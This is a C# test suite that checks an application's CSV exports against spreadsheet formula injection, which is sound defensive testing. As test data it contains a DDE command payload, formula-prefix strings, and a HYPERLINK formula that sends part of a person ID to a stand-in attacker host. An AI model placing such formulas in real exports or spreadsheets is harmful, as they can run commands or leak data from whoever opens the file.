using System.Text;
using System.Text.RegularExpressions;
using Dapper;
using Shouldly;
using Throughline.Imports;
using Throughline.Imports.Checking;
using Throughline.Imports.Profiles;
using Throughline.Platform;
using Throughline.Selection.ScoreFiles;
using Throughline.Tests.Imports;
using Xunit;

namespace Throughline.Tests.Abuse;

/// <summary>A spreadsheet runs nothing that came out of here, and what went out comes in again as it was (ASVS 1.2.10).</summary>
public sealed partial class CsvInjectionTests : IAsyncLifetime
{
    private static readonly string[] Starts = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠", "'=", "''+", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"];

    private static readonly string[] Words = ["csv", "export", "download"];

    private readonly AttackedSite attacked = new();

    public Task InitializeAsync() => attacked.InitializeAsync();

    public Task DisposeAsync() => attacked.DisposeAsync();

    private static bool IsDangerous(string cell) => cell.Length > 0 && "=+-@\t\r\n\0＝＋－＠".Contains(cell[0], StringComparison.Ordinal) && !(cell[0] is '+' or '-' && cell.Length > 1 && cell[1..].All(letter => char.IsAsciiDigit(letter) || letter == '.'));

    [Fact]
    public void Cells_TenThousandMadeUp_AreHarmlessAndComeBackAsTheyWere()
    {
        var random = new Random(20261120);
        const string Letters = "=+-@\t\r\n'\",;|ab1 ＝＋－＠é.";
        for (var number = 0; number < 10_000; number++)
        {
            var start = Starts[random.Next(Starts.Length)];
            var text = (number % 3 == 0 ? "" : start) + new string([.. Enumerable.Range(0, random.Next(0, 12)).Select(_ => Letters[random.Next(Letters.Length)])]);
            var written = CsvSafe.Neutralise(text);
            IsDangerous(written).ShouldBeFalse($"{text} was written as {written}");
            CsvSafe.Restored(written).ToString().ShouldBe(text);
        }
    }

    [Fact]
    public void Row_WrittenAndReadAgain_IsTheRowItWas()
    {
        var place = "=HYPERLINK(\"http://evil.example\",\"press\")";
        using var text = new StringWriter();
        var csv = new CsvWriter(text);
        csv.WriteRow("event_id", "person_ref", "kind", "occurred_on", "place");
        csv.WriteRow("E1", "P1", "arrest", "2026-03-14", place);
        csv.WriteRow("E2", "P1", "arrest", "2026-03-14", "'" + place);
        text.ToString().ShouldContain("\"'=HYPERLINK");
        var rows = ImportFile.Check(new MemoryStream(Encoding.UTF8.GetBytes(text.ToString())), "again.csv", ImportProfiles.Find("police-events")!, null, ImportTesting.Options).OfType<CheckedRow>().ToList();
        var column = ImportProfiles.Find("police-events")!.IndexOf("place");
        rows.Select(row => row.Values[column]).ShouldBe([place, "'" + place]);
    }

    /// <summary>Every address that answers with CSV is found by asking: the pages themselves, their handlers, and every link of theirs.</summary>
    [Fact]
    public async Task Exports_All_HoldNoFormula()
    {
        await PlantAsync();
        var files = new Dictionary<string, Reply>();
        foreach (var endpoint in attacked.Endpoints.Where(endpoint => endpoint.Gets))
        {
            var caller = await attacked.WhoMayAsync(endpoint);
            var address = await attacked.AddressAsync(endpoint);
            var page = await caller.GetAsync(address);
            var links = page.Page.QuerySelectorAll("a[href]").Select(link => link.GetAttribute("href")!).Where(link => link.Contains("csv", StringComparison.OrdinalIgnoreCase) && link.StartsWith('/'));
            foreach (var one in links.Append(address).Append(ForgeryTests.WithHandler(address, "Csv")).Append(ForgeryTests.WithHandler(address, "Download")).Distinct())
                Keep(files, await caller.GetAsync(one));
            foreach (var form in Form.Of(page, Form.Plausible))
            {
                foreach (var action in page.Page.QuerySelectorAll("button[formaction]").Select(button => button.GetAttribute("formaction")!).Append(form.Action).Where(action => Words.Any(word => action.Contains(word, StringComparison.OrdinalIgnoreCase))))
                    Keep(files, await caller.PostAsync(action, form.Fields));
            }
        }

        files.Keys.ShouldBe(["/audit", "/audit/breaches/*/pack.csv", "/cohort", "/imports/*/set-aside.csv", "/imports/profiles/*.csv", "/scores", "/users"], ignoreOrder: true, "an export that is new here is looked at like the others: say so on this list");
        foreach (var (route, file) in files)
        {
            using var text = new CsvText(new StringReader(file.Body.TrimStart('\uFEFF')));
            var cells = 0;
            while (text.Read() is { } row)
            {
                foreach (var cell in row)
                {
                    IsDangerous(cell).ShouldBeFalse($"{route}: {cell}");
                    cells++;
                }
            }

            cells.ShouldBeGreaterThan(1, route);
            file.HeaderLines.ShouldContain(line => line.StartsWith("Content-Disposition: attachment", StringComparison.OrdinalIgnoreCase), route);
        }

        // the test would see one: what was planted is in the files, made harmless
        files.Values.Count(file => file.Body.Contains("'=HYPERLINK", StringComparison.Ordinal)).ShouldBeGreaterThan(2);
    }

    private static void Keep(Dictionary<string, Reply> files, Reply reply)
    {
        if (reply.ContentType == "text/csv")
            files[Name().Replace(reply.Address.Split('?')[0], "*")] = reply;
    }

    [GeneratedRegex("[0-9a-f]{8}-[0-9a-f-]{27}|(?<=profiles/)[a-z-]+", RegexOptions.None, 1000)]
    private static partial Regex Name();

    /// <summary>Formulas wherever a name, a reason or a file may bring one: as whoever writes to the database without asking us would leave them.</summary>
    private async Task PlantAsync()
    {
        await using var connection = await attacked.AdminAsync();
        await connection.ExecuteAsync(
            """
            update person_name set surname = '=HYPERLINK("http://evil.example/' || substr(person_id::text, 30) || '")', forenames = '@SUM(1)' where partnership_id = @north;
            update app_user set full_name = '=HYPERLINK("u")' where user_name like '%north.example';
            update agency set name = '+cmd|' || code where code like 'north%';
            update import_reject set raw = '{"surname": "=HYPERLINK(1)", "person_ref": "-1+1", "forenames": "＝x"}'::jsonb where partnership_id = @north;
            """, new { north = attacked.Site.World.North.Value });
    }
}
